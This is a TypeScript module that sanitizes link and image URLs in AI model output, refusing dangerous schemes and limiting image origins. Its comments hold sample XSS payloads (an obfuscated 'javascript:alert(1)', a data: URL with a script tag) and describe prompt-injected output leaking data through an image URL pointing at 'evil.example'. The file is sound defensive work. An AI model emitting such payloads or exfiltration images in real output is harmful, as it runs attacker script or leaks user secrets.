/**
 * The URL policy for links and images in model output (DESIGN.md invariant 6): only `http:`,
 * `https:`, `mailto:` and relative URLs may reach an `href` or `src`. Everything else, however it
 * is spelled, renders as plain text.
 */

/**
 * Schemes a link may use. Anything with another scheme (`javascript:`, `data:`, `vbscript:`,
 * `file:`, custom app schemes) is refused.
 */
const SAFE_SCHEMES = new Set(["http", "https", "mailto"]);

// The WHATWG URL parser strips leading and trailing C0 controls and spaces, and removes every ASCII
// tab and newline anywhere, before it looks for a scheme; so "java\tscript:" and " javascript:" run
// script in a browser. We read the URL the way the browser will.
// @see https://url.spec.whatwg.org/#concept-basic-url-parser
// oxlint-disable-next-line no-control-regex
const C0_OR_SPACE_EDGES = /^[\u0000-\u0020]+|[\u0000-\u0020]+$/g;
const TAB_OR_NEWLINE = /[\t\n\r]/g;
// A scheme is ASCII alpha followed by alphanumerics, "+", "-" or ".", then ":".
// @see https://url.spec.whatwg.org/#scheme-state
const SCHEME = /^([a-zA-Z][a-zA-Z0-9+.-]*):/;

/**
 * Whether a URL, exactly as it will be placed in an `href` or `src` attribute (entities already
 * decoded), is allowed: `http:`, `https:`, `mailto:`, or relative (no scheme at all: `/path`,
 * `page.html`, `#anchor`, `?q`, `//host/path`).
 *
 * @example
 * isSafeUrl("https://example.com"); // true
 * isSafeUrl("/docs#intro");         // true
 * isSafeUrl(" JaVa\tScRiPt:alert(1)"); // false
 * isSafeUrl("data:text/html,<script>alert(1)</script>"); // false
 */
export function isSafeUrl(url: string): boolean {
  const cleaned = url.replace(C0_OR_SPACE_EDGES, "").replace(TAB_OR_NEWLINE, "");
  // A backslash is read as "/" by browsers for special schemes; refuse it up front rather than
  // reason about what "\\\\evil" or "javascript\\:" might become.
  if (cleaned.includes("\\")) return false;
  const scheme = SCHEME.exec(cleaned);
  if (!scheme) {
    // No scheme: relative, unless a ":" hides before the first "/", "?" or "#" (a scheme the regex
    // refused, like "1javascript:"), which some parsers still treat as absolute.
    const colon = cleaned.indexOf(":");
    if (colon === -1) return true;
    const firstDelimiter = cleaned.search(/[/?#]/);
    return firstDelimiter !== -1 && firstDelimiter < colon;
  }
  return SAFE_SCHEMES.has(scheme[1]!.toLowerCase());
}

/** Which images a `<Markdown>` may load. */
export type ImagePolicy = "all" | "none" | { allowedOrigins: string[] };

/**
 * Whether an image URL may be loaded under a policy. A markdown image is fetched without a click,
 * so it is how prompt-injected output leaks data (`![](https://evil.example/?q=secret)`): an app can
 * turn images off, or limit them to the origins it trusts. Relative URLs resolve against `base`
 * (the page), and are allowed when the page's origin is on the list.
 *
 * @example
 * isAllowedImage("https://cdn.example.com/a.png", { allowedOrigins: ["https://cdn.example.com"] }); // true
 * isAllowedImage("https://evil.example/x.png", { allowedOrigins: ["https://cdn.example.com"] }); // false
 * isAllowedImage("https://cdn.example.com/a.png", "none"); // false
 */
export function isAllowedImage(src: string, policy: ImagePolicy, base?: string): boolean {
  if (!isSafeUrl(src) || src.trim().toLowerCase().startsWith("mailto:")) return false;
  if (policy === "all") return true;
  if (policy === "none") return false;
  let origin: string;
  try {
    origin = new URL(src, base ?? "http://invalid.invalid/").origin;
  } catch {
    return false;
  }
  return policy.allowedOrigins.some((allowed) => {
    try {
      return new URL(allowed).origin === origin;
    } catch {
      return false;
    }
  });
}
